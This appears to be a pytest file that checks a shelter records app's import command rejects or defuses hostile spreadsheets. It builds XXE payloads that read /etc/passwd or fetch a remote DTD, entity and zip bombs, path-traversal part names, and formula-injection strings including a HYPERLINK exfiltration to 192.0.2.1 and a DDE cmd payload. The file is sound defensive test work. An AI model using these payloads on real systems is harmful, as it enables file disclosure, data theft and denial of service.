"""Import files that want something else than to be read, given to the command line as a person gives them.

What is refused is refused in words and leaves the vault as it was; what is read is text and nothing else, on the way
in and on the way out again.
"""

from __future__ import annotations

import io
import shutil
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from shelterdesk.opening import lock_desk, open_desk
from shelterdesk.people import Person
from shelterdesk.schema.history import LogRow
from tests.core.cli.terminal import Terminal, at
from tests.core.exchange.lists import write_sheet
from tests.core.exchange.parts import parts_of
from tests.core.proofs.scenes import USER
from tests.desks import PASSPHRASE

TITLES = ["First name", "Family name", "Gender"]
SHEET, STRINGS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
BOOK_RELATIONS = "xl/_rels/workbook.xml.rels"

Parts = dict[str, bytes]


@pytest.fixture
def vault(closed: Path, tmp_path: Path) -> Path:
    """A closed vault of one's own."""
    return Path(shutil.copytree(closed, tmp_path / "desk-7F3A.vault"))


@pytest.fixture
def run(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> Terminal:
    """The command line."""
    return Terminal(capsys, monkeypatch)


@pytest.fixture
def parts(tmp_path: Path) -> Parts:
    """The parts of a small workbook with one person."""
    return parts_of(write_sheet(tmp_path / "made.xlsx", [TITLES, ["Aysel", "Məmmədova", "Female"]]))


def packed(parts: Parts, *more: tuple[str, bytes]) -> bytes:
    """Return a workbook of *parts*; *more* may carry names that are there already or lead elsewhere."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, content in (*parts.items(), *more):
            archive.writestr(name, content)
    return held.getvalue()


def with_prologue(part: bytes, declarations: bytes, old: bytes, new: bytes) -> bytes:
    """Put a document type in front of a part, and use what it declares."""
    assert old in part
    body = part.split(b"?>", 1)[-1]
    return b'<?xml version="1.0"?><!DOCTYPE x [' + declarations + b"]>" + body.replace(old, new, 1)


def file_entity(parts: Parts) -> bytes:
    part = with_prologue(parts[SHEET], b'<!ENTITY f SYSTEM "file:///etc/passwd">', b"Aysel", b"&f;")
    return packed({**parts, SHEET: part})


def entity_from_the_network(parts: Parts) -> bytes:
    part = with_prologue(parts[SHEET], b'<!ENTITY % f SYSTEM "http://192.0.2.1/x.dtd"> %f;', b"Aysel", b"Aysel")
    return packed({**parts, SHEET: part})


def quadratic_entities(parts: Parts) -> bytes:
    part = with_prologue(parts[SHEET], b'<!ENTITY a "' + b"a" * 100_000 + b'">', b"Aysel", b"&a;" * 10_000)
    return packed({**parts, SHEET: part})


def declarations_in_another_spelling(parts: Parts) -> bytes:
    part = with_prologue(parts[SHEET], b'<!ENTITY a "lol">', b"Aysel", b"&a;")
    return packed({**parts, SHEET: part.decode().replace("?>", ' encoding="utf-16"?>', 1).encode("utf-16")})


def a_bomb_among_the_parts(parts: Parts) -> bytes:
    return packed(parts, ("xl/media/image1.png", bytes(200 * 1024 * 1024)))


def a_bomb_in_the_texts(parts: Parts) -> bytes:
    texts = b"<sst>" + b"<si><t>x</t></si>" * 1_100_000 + b"</sst>"
    relations = parts[BOOK_RELATIONS].replace(
        b"</Relationships>",
        b'<Relationship Id="rId77" Type="http://x/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
    )
    return packed({**parts, BOOK_RELATIONS: relations, STRINGS: texts})


def elements_without_end(parts: Parts) -> bytes:
    return packed({**parts, SHEET: b"<worksheet><sheetData>" + b"<row>" * 2_000_000})


def a_huge_cell(parts: Parts) -> bytes:
    return packed({**parts, SHEET: parts[SHEET].replace(b">Aysel<", b">" + b"x" * 3_000_000 + b"<")})


def a_huge_cell_in_text(_parts: Parts) -> bytes:
    return "\n".join([",".join(TITLES), f"Aysel,{'x' * 3_000_000},Female"]).encode()


def a_table_that_is_the_workbook(parts: Parts) -> bytes:
    relations = parts[BOOK_RELATIONS].replace(b"worksheets/sheet1.xml", b"workbook.xml")
    return packed({**parts, BOOK_RELATIONS: relations})


def a_table_outside(parts: Parts) -> bytes:
    relations = parts[BOOK_RELATIONS]
    for target in (b"/xl/worksheets/sheet1.xml", b"worksheets/sheet1.xml"):
        relations = relations.replace(b'"' + target, b'"../../../../../../etc/passwd')
    return packed({**parts, BOOK_RELATIONS: relations})


REFUSED: tuple[Callable[[Parts], bytes], ...] = (
    file_entity, entity_from_the_network, quadratic_entities, declarations_in_another_spelling,
    a_bomb_among_the_parts, a_bomb_in_the_texts, elements_without_end, a_huge_cell, a_huge_cell_in_text,
    a_table_that_is_the_workbook, a_table_outside,
)  # fmt: skip


def kept_in(vault: Path) -> tuple[int, int]:
    """Return how many rows the log has about records, and how many people are on file."""
    desk = open_desk(vault, USER, PASSPHRASE)
    with desk.read() as db:
        rows = db.scalar(select(func.count()).select_from(LogRow).where(LogRow.record != "")) or 0
        on_file = db.scalar(select(func.count()).select_from(Person)) or 0
    lock_desk(desk, "asked")
    return rows, on_file


def everything_below(place: Path) -> list[Path]:
    """Return what lies there but for what the computer notes of the vaults it opened."""
    return sorted(path for path in place.rglob("*") if place / "home" not in (path, *path.parents))


@pytest.mark.parametrize("hostile", REFUSED, ids=lambda hostile: hostile.__name__)
def test_it_is_refused_in_words_and_nothing_is_changed(
    vault: Path, run: Terminal, tmp_path: Path, parts: Parts, hostile: Callable[[Parts], bytes]
) -> None:
    file = tmp_path / "our list.xlsx"
    file.write_bytes(hostile(parts))
    before, folder = kept_in(vault), everything_below(tmp_path)
    said = run("import", file, *at(vault))
    assert said.code == 1
    assert "our list.xlsx" in said.err
    assert "did not expect" not in said.err
    assert kept_in(vault) == before
    assert everything_below(tmp_path) == folder, "nothing was unpacked beside it"


def test_names_of_parts_that_lead_out_of_the_workbook_lead_nowhere(
    vault: Path, run: Terminal, tmp_path: Path, parts: Parts
) -> None:
    other = parts[SHEET].replace(b"Aysel", b"Somebody else")
    tricks = ("../../desk-7F3A.vault/header.json", "/etc/cron.d/x", "C:\\Windows\\x", "xl\\worksheets\\sheet1.xml")
    file = tmp_path / "list.xlsx"
    file.write_bytes(packed(parts, *((name, other) for name in tricks)))
    folder = everything_below(tmp_path)
    header = (vault / "header.json").read_bytes()
    assert run("import", file, *at(vault)).code == 0
    assert [one["given_names"] for one in run("residents", "--json", "--why", "tried", *at(vault)).json] == ["Aysel"]
    assert everything_below(tmp_path) == folder
    assert (vault / "header.json").read_bytes() == header


FORMULAS = (
    '=HYPERLINK("http://192.0.2.1/?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "|x", "%x",
)  # fmt: skip


def test_what_looks_like_a_formula_comes_in_as_text_and_goes_out_as_text(
    vault: Path, run: Terminal, tmp_path: Path
) -> None:
    quoted = ['"' + formula.replace('"', '""') + '"' for formula in FORMULAS]
    for born, code in (("1990", 0), ("never", 1)):
        file, mend = tmp_path / f"{born}.csv", tmp_path / f"mend {born}.xlsx"
        lines = [f"{one},Test,Female,{born}" for one in quoted]
        file.write_text("\n".join([",".join([*TITLES, "Date of birth"]), *lines]), encoding="utf-8")
        assert run("import", file, "--rejects", mend, *at(vault)).code == code
    taken = {one["given_names"] for one in run("residents", "--json", "--why", "tried", *at(vault)).json}
    assert taken == {formula.strip() for formula in FORMULAS}
    with zipfile.ZipFile(mend) as archive:
        assert not [name for name in archive.namelist() if b"<f>" in archive.read(name)]
    cells = [cell for row in load_workbook(mend).worksheets[0].iter_rows(min_row=2) for cell in row if cell.value]
    assert {cell.data_type for cell in cells} == {"s"}
    assert {formula.strip() for formula in FORMULAS} <= {str(cell.value).strip() for cell in cells}
